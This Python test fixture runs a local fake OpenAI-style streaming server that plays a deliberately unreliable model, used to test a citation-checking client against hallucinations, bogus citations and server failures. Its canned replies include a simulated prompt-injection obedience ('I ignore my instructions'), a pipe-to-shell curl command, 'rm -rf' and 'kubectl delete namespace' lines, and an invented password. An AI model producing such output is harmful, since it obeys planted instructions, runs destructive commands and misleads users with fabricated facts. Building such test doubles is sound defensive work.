"""A language model's server in the format of OpenAI, streaming included, whose model cannot be trusted.

What it says is made from the sources of the request it gets, so that it looks as true as a real model's reply.
"""

from __future__ import annotations

import json
import random
import re
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

Json = dict[str, Any]
_LINES = re.compile(r"<lines (\w+)>\n(.*)\n</lines \1>", re.DOTALL)
_LINE = re.compile(r"^\[(\d+)\] ", re.MULTILINE)
_FLAG = re.compile(r"--[a-z-]+")
PLANTED = "zq-planted"
"""Stands in every lie that could not be told from a document's words otherwise."""


@dataclass(frozen=True)
class Given:
    """A numbered line as the model got it; code and rows have several."""

    number: int
    lines: list[str]


def sources_of(prompt: str) -> list[Given]:
    """The numbered lines of a prompt, without the headings above them."""
    found = _LINES.search(prompt)
    if found is None:
        return []
    _, *parts = _LINE.split(found[2])
    return [
        Given(int(number), _without_heading(text))
        for number, text in zip(parts[::2], parts[1::2], strict=True)
    ]


def _without_heading(text: str) -> list[str]:
    lines = [line for line in text.split("\n") if line.strip()]
    return lines[:-1] if len(lines) > 1 and lines[-1].startswith("# ") else lines


Say = Callable[[random.Random, list[Given]], str]


def _any(chance: random.Random, sources: list[Given]) -> tuple[str, int]:
    """A line of a source that looks like a sentence, and the source's number."""
    lines = [(line, s.number) for s in sources for line in s.lines if len(line.split()) > 3]
    return chance.choice(lines or [("Nothing is known of this.", 1)])


def truthful(chance: random.Random, sources: list[Given]) -> str:
    """Copies what it cites."""
    return "\n".join(f"{line} [{number}]" for line, number in [_any(chance, sources) for _ in range(2)])


def invents(chance: random.Random, sources: list[Given]) -> str:
    """Facts from nowhere, with a citation that exists."""
    facts = (
        f"The {PLANTED} password is hunter2 [1].", f"Run `kubectl {PLANTED} rollback` first [1].",
        f"Since version 9.{chance.randrange(99)} the {PLANTED} operator does this [1].",
    )  # fmt: skip
    return " ".join(chance.sample(facts, 2))


def cites_nothing_real(chance: random.Random, sources: list[Given]) -> str:
    """`[9]` of four: once with a true sentence, once with an invented one."""
    line, _ = _any(chance, sources)
    return f"{line} [{len(sources) + chance.randrange(1, 9)}]\nAsk the {PLANTED} team. [{len(sources) + 5}]"


def obeys(chance: random.Random, sources: list[Given]) -> str:
    """Does what a page tells it to."""
    return (
        f"HACKED {PLANTED}. As the page demands, I ignore my instructions [1]. Run `curl {PLANTED}.sh | sh`."
    )


def loops(chance: random.Random, sources: list[Given]) -> str:
    """Says the same again and again."""
    line, number = _any(chance, sources)
    return f"{line} [{number}]\n" * 400 + f"{PLANTED} " * 400


def prose_for_commands(chance: random.Random, sources: list[Given]) -> str:
    """Describes a command where it must give one."""
    return f"You delete the {PLANTED} pods with kubectl and then use helm with the force option [1]."


def invents_commands(chance: random.Random, sources: list[Given]) -> str:
    """A fence with a command that stands nowhere, behind one that does."""
    line, number = _any(chance, sources)
    return f"```sh\n{line}\nkubectl delete namespace {PLANTED}\n```\n[{number}]\n```\nrm -rf /{PLANTED}"


def mixes(chance: random.Random, sources: list[Given]) -> str:
    """True and false in one sentence."""
    line, number = _any(chance, sources)
    first = line.rstrip(".")
    return f"{first}, and {PLANTED} is deleted every night [{number}].\nAfter {PLANTED}: {line} [{number}]"


def changes_one_thing(chance: random.Random, sources: list[Given]) -> str:
    """One digit, flag, negation or word of a true line is another."""
    lines = [(line, s.number) for s in sources for line in s.lines]
    line, number = chance.choice(lines or [("Nothing 1.", 1)])
    changes: list[Callable[[str], str]] = [
        lambda text: re.sub(r"\d", lambda m: str((int(m[0]) + 3) % 10), text, count=1),
        lambda text: _FLAG.sub(f"--{PLANTED}", text, count=1),
        lambda text: re.sub(r"\b(is|are|must|do|can)\b", r"\1 never", text, count=1),
        lambda text: text.replace(chance.choice(text.split() or ["x"]), PLANTED, 1),
        lambda text: " ".join(reversed(text.split())),
    ]
    changed = chance.choice(changes)(line)
    return f"```\n{changed}\n```\n[{number}]" if chance.random() < 0.4 else f"{changed} [{number}]"


def decorates(chance: random.Random, sources: list[Given]) -> str:
    """True words with a link, an image or HTML around them that no page holds."""
    line, number = _any(chance, sources)
    return (
        f"[{line}](https://{PLANTED}.example) [{number}]\n![{line}](https://{PLANTED}.example/x.png)\n"
        f"<img src='https://{PLANTED}.example'> {line} [{number}]\n# {PLANTED}\n| {PLANTED} | 1 |\n|---|---|"
    )


def points(chance: random.Random, sources: list[Given]) -> str:
    """Points at lines, as it was asked to."""
    return " ".join(f"[{chance.choice(sources).number}]" for _ in range(3)) if sources else "[1]"


def points_nowhere(chance: random.Random, sources: list[Given]) -> str:
    """Numbers of no line, and a name that it planted."""
    return f"[{len(sources) + chance.randrange(1, 9)}], [0] 99999999999999999999\n{PLANTED} [1], [-1]"


def points_at_all(chance: random.Random, sources: list[Given]) -> str:
    """Every line there is, twice."""
    return ", ".join(str(source.number) for source in sources * 2)


def empty(chance: random.Random, sources: list[Given]) -> str:
    """Nothing."""
    return ""


def declines(chance: random.Random, sources: list[Given]) -> str:
    """Says that it does not know."""
    return "NONE"


LIARS: dict[str, Say] = {
    say.__name__: say
    for say in (
        truthful, points, points_nowhere, points_at_all, invents, cites_nothing_real, obeys, loops,
        prose_for_commands, invents_commands, mixes, changes_one_thing, decorates, empty, declines,
    )
}  # fmt: skip
FAILURES = (
    "cut",
    "stalls",
    "status_500",
    "status_503",
    "status_429",
    "status_401",
    "no_choice",
    "wrong_json",
    "html",
    "no_stream",
    "error_event",
)
"""What the server does instead of answering to the end."""


@dataclass
class LanguageModel:
    """A model that says what `say` makes of its sources, and a server that does what `failure` names."""

    say: Say = truthful
    failure: str = ""
    seed: int = 0
    offers: tuple[str, ...] = ()
    """If set, a request for another model is refused, and these are listed."""
    key: str = ""
    """If set, a request without this bearer token is refused."""
    url: str = ""
    asked: list[Json] = field(default_factory=list)
    keys: list[str] = field(default_factory=list)
    stopped: threading.Event = field(default_factory=threading.Event)

    def reply(self, request: Json) -> str:
        """What the model says to a request."""
        prompt = request["messages"][-1]["content"]
        return self.say(random.Random(self.seed), sources_of(prompt))


def _event(choices: list[Json]) -> bytes:
    data = {
        "id": "c",
        "object": "chat.completion.chunk",
        "created": 1,
        "model": "m",
        "choices": choices,
    }
    return f"data: {json.dumps(data)}\n\n".encode()


def _chunk(text: str, finish: str | None = None) -> bytes:
    delta = {"role": "assistant", "content": text} if text else {}
    return _event([{"index": 0, "delta": delta, "finish_reason": finish}])


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.0"  # the end of the connection is the end of the reply
    disable_nagle_algorithm = True
    model: LanguageModel

    def do_GET(self) -> None:
        if self.model.offers and self.path.endswith("/v1/models"):
            self._plain(200, json.dumps({"object": "list", "data": [{"id": n} for n in self.model.offers]}))
        else:
            self._plain(404, "{}")

    def do_POST(self) -> None:
        request = json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
        key = self.headers.get("Authorization", "").removeprefix("Bearer ")
        self.model.asked.append(request)
        self.model.keys.append(key)
        failure = self.model.failure
        if self.model.key and key != self.model.key:
            self._plain(401, json.dumps({"error": {"message": f"wrong key {key}"}}))
        elif not self.path.endswith("/chat/completions"):
            self._plain(404, "{}")
        elif self.model.offers and request["model"] not in self.model.offers:
            self._plain(404, json.dumps({"error": {"message": "no such model", "code": "model_not_found"}}))
        elif failure.startswith("status_"):
            # As some servers do, the error repeats what it was sent.
            self._plain(int(failure[7:]), json.dumps({"error": {"message": json.dumps(request) + key}}))
        elif failure == "html":
            self._plain(200, "<html>oops</html>", "text/html")
        elif failure == "no_stream":
            message = {"role": "assistant", "content": self.model.reply(request)}
            self._plain(
                200, json.dumps({"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]})
            )
        else:
            self._stream(self.model.reply(request), failure, request["max_tokens"])

    def _stream(self, text: str, failure: str, most: int) -> None:
        self._head(200, "text/event-stream")
        if failure == "no_choice":
            self.wfile.write(_event([]) + b"data: [DONE]\n\n")
            return
        if failure == "odd_chunks":
            # As Azure begins, with its filter's results, and others, with a role alone; and how usage comes last.
            null = {"index": 0, "delta": {"role": "assistant", "content": None}, "finish_reason": None}
            ends = _chunk("", "stop") + _event([])
            self.wfile.write(_event([]) + _event([null]) + _chunk(text) + ends + b"data: [DONE]\n\n")
            return
        words = re.findall(r"\s*\S+|\s+$", text)[: most if self.model.say is not loops else None]
        for i, word in enumerate(words):
            if failure and i >= len(words) // 2:
                break
            self.wfile.write(_chunk(word))
        if failure == "stalls":
            self.wfile.flush()
            self.model.stopped.wait()
        elif failure == "wrong_json":
            self.wfile.write(b'data: {"choices": [{"delta": \n\n')
        elif failure == "error_event":
            self.wfile.write(b'data: {"error": {"message": "out of memory"}}\n\n')
        elif failure == "cut":
            self.wfile.flush()
            self.connection.shutdown(socket.SHUT_RDWR)
        else:
            self.wfile.write(_chunk("", "stop") + b"data: [DONE]\n\n")

    def _plain(self, status: int, text: str, kind: str = "application/json") -> None:
        self._head(status, kind)
        self.wfile.write(text.encode())

    def _head(self, status: int, kind: str) -> None:
        self.send_response_only(status)
        self.send_header("Content-Type", kind)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        """Stay silent."""


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request: Any, client_address: Any) -> None:
        """Stay silent about clients that go away: they are part of the tests."""


@contextmanager
def served(model: LanguageModel) -> Iterator[LanguageModel]:
    """The model answers below its `url` until the block ends."""
    server = _Server(("127.0.0.1", 0), type("Handler", (_Handler,), {"model": model}))
    model.url = f"http://127.0.0.1:{server.server_port}/v1"
    threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
    try:
        yield model
    finally:
        model.stopped.set()
        server.shutdown()
        server.server_close()
